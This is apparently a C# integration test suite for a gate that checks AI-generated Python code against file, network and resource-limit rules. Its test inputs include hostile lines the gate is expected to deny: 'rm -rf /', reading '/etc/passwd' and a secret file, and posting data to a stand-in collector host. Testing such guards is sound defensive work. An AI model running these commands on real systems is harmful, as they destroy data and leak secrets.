using System.Net;
using System.Net.Sockets;
using System.Text;

namespace ActionGate.Execution.Tests.Integration;

/// <summary>What docs/promises.md says of code that runs, on processes that run.</summary>
public sealed class PromiseTests : GuardedFixture
{
    private const string Rules = """
        version: 1
        rules:
          - { id: run, action: code_execution, target: python, effect: allow }
          - { id: in, action: file_read, path: "./in/**", effect: allow }
          - { id: out, action: file_write, path: "./out/**", effect: allow }
        """;

    private ActionContext Coder => As("coder");

    [SkippableTheory]
    [InlineData("open('x', 'w').write('1')")]
    [InlineData("import pathlib\npathlib.Path('x').write_text('1')")]
    [InlineData("from pathlib import Path\n(Path('out') / '..' / 'x').touch()")]
    [InlineData("import shutil\nshutil.copy('in/a', 'x')")]
    [InlineData("import os\nos.makedirs('x')")]
    [InlineData("import os\nwith os.fdopen(os.open('x', os.O_CREAT | os.O_WRONLY), 'w') as f:\n    f.write('1')")]
    [InlineData("import tarfile\nt = tarfile.open('x', 'w')\nt.close()")]
    [InlineData("import sqlite3\nsqlite3.connect('x').execute('create table t (a)')")]
    public async Task Promise_P03_WriteOutsideWhatIsAllowed_NeverHappens(string code)
    {
        Needs("python3");
        Place("in/a", "1");
        using var gate = GateOf(Rules);
        using var simulated = GateOf(Rules, GateMode.Simulate);

        (await RunAsync(gate, Coder, code)).IsDenied.Should().BeTrue();
        Path.Exists(Path.Combine(Work, "x")).Should().BeFalse();
        Directory.CreateDirectory(Path.Combine(Work, "out"));
        (await RunAsync(simulated, Coder, code)).ExitCode.Should().Be(0);
        Path.Exists(Path.Combine(Work, "x")).Should().BeTrue("the same code writes where nothing binds it");
    }

    [SkippableFact]
    public async Task Promise_P03_WriteWhereItIsAllowed_Happens()
    {
        Needs("python3");
        Place("out/old", "");
        using var gate = GateOf(Rules);

        var result = await RunAsync(gate, Coder, "from pathlib import Path\nPath('out/x').write_text('1')");

        (result.ExitCode, result.Output).Should().Be((0, ""));
        File.ReadAllText(Path.Combine(Work, "out/x")).Should().Be("1");
    }

    [SkippableFact]
    public async Task Promise_P04_Request_ReachesTheAllowedUrlAndNoOther()
    {
        Needs("python3");
        using var server = new TcpListener(IPAddress.Loopback, 0);
        server.Start();
        string port = ((IPEndPoint)server.LocalEndpoint).Port.ToString(System.Globalization.CultureInfo.InvariantCulture);
        using var gate = GateOf($"{Rules}\n  - {{ id: api, action: network, url: \"http://127.0.0.1:{port}/ok\", effect: allow }}");
        string Code(string path) => $"import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:{port}/{path}').status)";

        (await RunAsync(gate, Coder, Code("other"))).IsDenied.Should().BeTrue();
        server.Pending().Should().BeFalse("nothing connected");

        var answering = AnswerAsync(server);
        (await RunAsync(gate, Coder, Code("ok"))).Output.Should().Be("200\n");
        await answering;
    }

    [SkippableTheory]
    [InlineData("import socket\nsocket.create_connection(('127.0.0.1', PORT))")]
    [InlineData("import socket\ns = socket.socket()\ns.connect(('127.0.0.1', PORT))")]
    [InlineData("import http.client\nhttp.client.HTTPConnection('127.0.0.1', PORT).request('GET', '/')")]
    [InlineData("import ftplib\nftplib.FTP().connect('127.0.0.1', PORT)")]
    public async Task Promise_P04_Socket_IsDecidedByItsHost(string code)
    {
        Needs("python3");
        using var server = new TcpListener(IPAddress.Loopback, 0);
        server.Start();
        string port = ((IPEndPoint)server.LocalEndpoint).Port.ToString(System.Globalization.CultureInfo.InvariantCulture);
        using var gate = GateOf(Rules + "\n  - { id: api, action: network, host: api.example.com, effect: allow }");

        (await RunAsync(gate, Coder, code.Replace("PORT", port, StringComparison.Ordinal))).IsDenied.Should().BeTrue();

        server.Pending().Should().BeFalse("nothing connected");
    }

    [SkippableTheory]
    [InlineData("print(open('secret').read())")]
    [InlineData("import pathlib\nprint(pathlib.Path('in/../secret').read_text())")]
    [InlineData("import os\nprint(os.listdir('/etc'))")]
    [InlineData("import shutil\nshutil.copy('secret', 'out/x')\nprint('hunter2')")]
    [InlineData("import linecache\nprint(linecache.getline('secret', 1))")]
    public async Task Promise_P05_ReadOutsideWhatIsAllowed_NeverHappens(string code)
    {
        Needs("python3");
        Place("secret", "hunter2");
        using var gate = GateOf(Rules);

        var result = await RunAsync(gate, Coder, code);

        result.IsDenied.Should().BeTrue();
        result.Output.Should().NotContain("hunter2");
    }

    [SkippableFact]
    public async Task Promise_P05_ReadWhereItIsAllowed_Happens()
    {
        Needs("python3");
        Place("in/a", "content");
        using var gate = GateOf(Rules);

        (await RunAsync(gate, Coder, "print(open('in/a').read())")).Output.Should().Be("content\n");
    }

    /// <summary>The policy of the guide, for four blocks that it shows.</summary>
    [SkippableFact]
    public async Task Promise_P17_FourBlocksOfTheGuide_GetTheirVerdictsAndOnlyTheLastRuns()
    {
        Needs("python3");
        Place("workspace/in.csv", "a,b\n");
        using var gate = PublishedGate("workspace.yaml", "${PROJECT_DIR}", Work);

        (await RunAsync(gate, Coder, "print(open('/etc/passwd').read())")).Output.Should().Contain("file_read '/etc/passwd'").And.NotContain("root:");
        (await RunAsync(gate, Coder, "import os\nos.system('rm -rf /')")).Output.Should().Contain("rule '#9'").And.Contain("'rm*'");
        (await RunAsync(gate, Coder, "import requests\nrequests.post('https://collector.example/x', data='y')")).Output.Should().Contain("rule '#14'");
        (await RunAsync(gate, Coder, "with open('workspace/results.csv', 'w') as f:\n    f.write('a,b')")).ExitCode.Should().Be(0);

        File.ReadAllText(Path.Combine(Work, "workspace/results.csv")).Should().Be("a,b");
        Records().Where(r => r.Type == "decision").Select(r => r.Verdict).Should().Equal(Verdict.Deny, Verdict.Deny, Verdict.Deny, Verdict.Allow);
    }

    [SkippableFact]
    public async Task Promise_P18_ConversationOfThirtyBlocks_EachIsDecidedByItself()
    {
        Needs("python3");
        Place("out/old", "");
        using var gate = GateOf(Rules);
        var executor = new ProcessCodeExecutor(Options).Guard(gate);
        var denied = new List<int>();

        for (int turn = 1; turn <= 30; turn++)
        {
            string place = turn % 3 == 0 ? "elsewhere" : "out";
            var run = new CodeExecution([new CodeBlock($"open('{place}/{turn}', 'w').write('{turn}')", "python")]) { Context = Coder with { Session = "talk", Turn = turn } };
            if ((await RunAsync(executor, run)).IsDenied)
                denied.Add(turn);
        }

        denied.Should().Equal(Enumerable.Range(1, 30).Where(t => t % 3 == 0));
        Directory.GetFiles(Path.Combine(Work, "out")).Should().HaveCount(21);
        Directory.Exists(Path.Combine(Work, "elsewhere")).Should().BeFalse();
        var decisions = Records().Where(r => r.Type == "decision").ToArray();
        decisions.Select(r => r.Turn).Should().Equal(Enumerable.Range(1, 30).Select(t => (long?)t));
        decisions.Select(r => r.CodeHash).Should().OnlyHaveUniqueItems();
    }

    [SkippableTheory]
    [InlineData("while True: pass", "time: 1s", "wall_time", 124)]
    [InlineData("x = bytearray(b'x') * 400_000_000\nwhile True: pass", "memory: 60MB", "memory", 137)]
    public async Task Promise_P27_CodeOverItsTimeOrMemory_IsEnded(string code, string limit, string name, int exitCode)
    {
        Needs("python3");
        Skip.IfNot(OperatingSystem.IsLinux(), "memory is limited on Linux only");
        using var gate = GateOf($"limits: {{ {limit} }}\n{Rules}");

        var result = await RunAsync(gate, Coder, code);

        (result.ExitCode, result.LimitHit).Should().Be((exitCode, name));
        Records().Last(r => r.Type == "outcome").Json.Should().Contain($"\"limit\":\"{name}\"");
        Records().Last(r => r.Type == "decision").Json.Should().Contain($"\"limits\":{{\"{name}\":");
    }

    private static async Task AnswerAsync(TcpListener server)
    {
        using var client = await server.AcceptTcpClientAsync();
        var stream = client.GetStream();
        var asked = new byte[4096];
        while (!Encoding.ASCII.GetString(asked).Contains("\r\n\r\n", StringComparison.Ordinal) && await stream.ReadAsync(asked) > 0)
        {
        }
        await stream.WriteAsync("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"u8.ToArray());
    }
}
